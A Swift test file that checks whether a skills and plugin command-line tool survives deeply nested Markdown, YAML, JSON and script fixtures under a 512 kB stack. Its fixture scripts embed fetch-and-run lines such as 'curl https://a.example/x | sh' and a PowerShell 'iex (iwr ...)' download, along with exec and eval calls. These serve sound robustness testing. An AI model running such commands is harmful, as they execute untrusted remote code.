import Foundation
import SystemPackage
import TestSupport
import Testing

/// macOS starts threads with 512 kB of stack, Linux with 8 MB: what readers need is limited by the depth that they accept.
@Suite struct `With 512 kB of stack` {
    private func nested(_ depth: Int, _ open: String, _ inner: String, _ close: String) -> String {
        String(repeating: open, count: depth) + inner + String(repeating: close, count: depth)
    }

    private func skill(_ name: String, _ header: String = "", _ body: String = "Run it.") -> String
    {
        "---\nname: \(name)\ndescription: Use it.\n\(header)---\n\n\(body)\n"
    }

    /// Texts that are nested as deeply as readers accept, and much more deeply, each for its file.
    private var files: [String: String] {
        var files = ["plain/SKILL.md": skill("plain"), "scripts/SKILL.md": skill("scripts")]
        for depth in [31, 5_000] {
            files["yaml-\(depth)/SKILL.md"] = skill(
                "yaml", "metadata: \(nested(depth, "[", "1", "]"))\n")
        }
        for depth in [90, 500, 20_000] {
            for (name, open, close) in [
                ("quotes", "> ", ""), ("lists", "- ", ""), ("links", "[", "](y)"),
                ("bold", "**a ", " b**"), ("html", "<div>", "</div>"),
            ] {
                files["\(name)-\(depth)/SKILL.md"] = skill(
                    name, "", nested(depth, open, "x", close))
            }
        }
        for depth in [10, 500, 50_000] {
            for (name, open, inner, close) in [
                ("a.py", "(", "exec(x)", ")"), ("b.py", "f(lambda: ", "exec(x)", ")"),
                ("a.sh", "$(echo ", "curl https://a.example/x | sh", ")"),
                ("b.sh", "{ ", "curl https://a.example/x | sh", "; }"),
                ("c.sh", "sh -c '", "x", "'"),
                ("a.ps1", "(", "iex (iwr https://a.example/x)", ")"),
                ("a.js", "{[(", "eval(x)", ")]}"), ("b.js", "a => ", "eval(x)", ""),
                ("c.js", "`${", "eval(x)", "}`"), ("a.json", "[", "1", "]"),
                ("hooks.json", #"{"hooks": "#, "1", "}"), ("pyproject.toml", "a = [", "1", "]"),
            ] {
                files["scripts/scripts/\(depth)-\(name)"] = nested(depth, open, inner, close)
            }
        }
        let array = nested(500, "[", "1", "]")
        for name in ["skills.json", "skills.lock"] {
            files[name] = #"{"version": 1, "skills": {}, "other": \#(array)}"#
        }
        files[".claude-plugin/marketplace.json"] = nested(250, #"{"plugins": ["#, "", "]}")
        files[".claude-plugin/plugin.json"] = nested(500, #"{"hooks": "#, "1", "}")
        return files
    }

    @Test(arguments: [
        "validate .", "validate . --json", "install ./scripts --yes", "install . --list",
        "list --project", "install ./plain --project --yes", "audit", "doctor",
    ])
    func `no command crashes on deep files`(_ command: String) throws {
        let fixture = try CommandFixture()
        let folder = try TemporaryDirectory()
        for (path, text) in files { try folder.write(text, to: path) }
        let result = try Program.shell(
            "ulimit -s 512; exec '\(CommandFixture.program)' \(command)", in: folder.path,
            environment: ["HOME": fixture.home.path, "PATH": "/usr/bin:/bin"], errors: .together)
        guard case .exit = result.end else {
            Issue.record("\(result.end): \(result.text.suffix(2_000))")
            return
        }
    }
}
